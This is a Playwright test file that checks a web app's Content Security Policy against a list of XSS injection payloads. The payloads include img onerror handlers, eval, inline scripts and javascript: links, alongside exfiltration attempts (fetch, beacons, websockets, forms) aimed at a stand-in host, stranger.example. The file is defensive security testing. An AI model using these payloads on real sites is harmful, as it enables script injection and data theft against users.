import type { Page } from "@playwright/test";

import { joinButton, startSession } from "./acts.js";
import { expect, test } from "./fixtures.js";

// What an injected text or script could try, on pages as the broker serves them: the browser refuses
// each, and says by which directive.

// A request that the browser refuses counts as asked, too; whether one goes out is seen at its route.
test.use({ tolerated: /Content Security Policy|Trusted|^asked stranger\.example$/ });

test.describe.configure({ timeout: 120_000 });

/** Runs in the page; as a text where the style of our own code forbids what it does. */
type Attempt = string | (() => unknown);

/** Each sets `pwned` if it gets through. */
const attempts: Readonly<Record<string, Attempt>> = {
  "HTML from a text": () => {
    document.body.innerHTML = "<img src=x onerror='pwned = 1'>";
  },
  "HTML written": () => {
    document.writeln("<script>pwned = 1</script>");
  },
  "HTML parsed": () => {
    const text = "<img src=x onerror='pwned = 1'>";
    document.body.append(new DOMParser().parseFromString(text, "text/html").body);
  },
  "HTML of a frame": () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = "<script>parent.pwned = 1</script>";
    document.body.append(frame);
  },
  "a policy of its own": () => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };
    trustedTypes.createPolicy("default", { createHTML: (text: string) => text });
    Object.assign(globalThis, { pwned: 1 });
  },
  eval: "eval('pwned = 1')",
  "a function from a text": "Function('pwned = 1')()",
  "a timer with a text": "setTimeout('pwned = 1')",
  "an inline script": () => {
    const script = document.createElement("script");
    script.append("pwned = 1");
    document.body.append(script);
  },
  "an inline handler": () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "pwned = 1");
    document.body.append(button);
    button.click();
  },
  "a javascript: link": () => {
    const link = document.createElement("a");
    link.href = "javascript:pwned = 1";
    document.body.append(link);
    link.click();
  },
  "a script from elsewhere": () => {
    const script = document.createElement("script");
    script.src = "https://stranger.example/a.js";
    document.body.append(script);
  },
  "a worker from a text": () =>
    new Worker(URL.createObjectURL(new Blob(["close()"], { type: "text/javascript" }))),
};

/** These would carry something out; the browser must not even ask. */
const leaks: Readonly<Record<string, Attempt>> = {
  "a request": () => fetch("https://stranger.example/").catch(() => undefined),
  "a beacon": () => navigator.sendBeacon("https://stranger.example/", "x"),
  "a socket": () => new WebSocket("wss://stranger.example/"),
  "a picture": () => (new Image().src = "https://stranger.example/a.png"),
  "a frame": () => {
    const frame = document.createElement("iframe");
    frame.src = "https://stranger.example/";
    document.body.append(frame);
  },
  "a style sheet": () => {
    const link = document.createElement("link");
    link.rel = "stylesheet";
    link.href = "https://stranger.example/a.css";
    document.head.append(link);
  },
  "an inline style": () => {
    const style = document.createElement("style");
    style.append("body { background: url(https://stranger.example/) }");
    document.head.append(style);
  },
  "a form": () => {
    const form = document.createElement("form");
    form.action = "https://stranger.example/";
    document.body.append(form);
    form.submit();
  },
  "another base address": () => {
    const base = document.createElement("base");
    base.href = "https://stranger.example/";
    document.head.append(base);
  },
};

/** Every page has the same policy, which HeadersTest reads from each route; these hold the most. */
const pages: Readonly<Record<string, (page: Page, link: string) => Promise<unknown>>> = {
  join: async (page, link) => {
    await page.goto(link);
    await expect(joinButton(page)).toBeVisible();
  },
  session: (page) => startSession(page),
};

for (const [name, open] of Object.entries(pages)) {
  test(`nothing that is injected runs or leaks on the page ${name}`, async ({ guest, session }) => {
    const { link } = await session.invites.create({ name: "Ben" });
    const sent: string[] = [];
    await guest.route("https://stranger.example/**", async (route) => {
      sent.push(route.request().url());
      await route.abort();
    });
    await open(guest, link);
    for (const [what, attempt] of Object.entries({ ...attempts, ...leaks })) {
      const refusals = await tried(guest, attempt);
      expect(refusals, what).not.toEqual([]);
    }
    expect(sent).toEqual([]);
    expect(await guest.evaluate("typeof pwned")).toBe("undefined");
    expect(new URL(guest.url()).host).toBe(new URL(link).host);
  });
}

/** The directives of the policy by which the browser refused what the attempt did. */
async function tried(page: Page, attempt: Attempt): Promise<readonly string[]> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(globalThis, { seen });
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      seen.push(effectiveDirective);
    });
  });
  // A timer, because the debugger may be allowed what a page is not.
  const code = typeof attempt === "string" ? `() => ${attempt}` : attempt.toString();
  await page.evaluate(`void setTimeout(${code})`);
  await page.waitForFunction("seen.length > 0", null, { timeout: 3000 }).catch(() => undefined);
  return page.evaluate("seen");
}
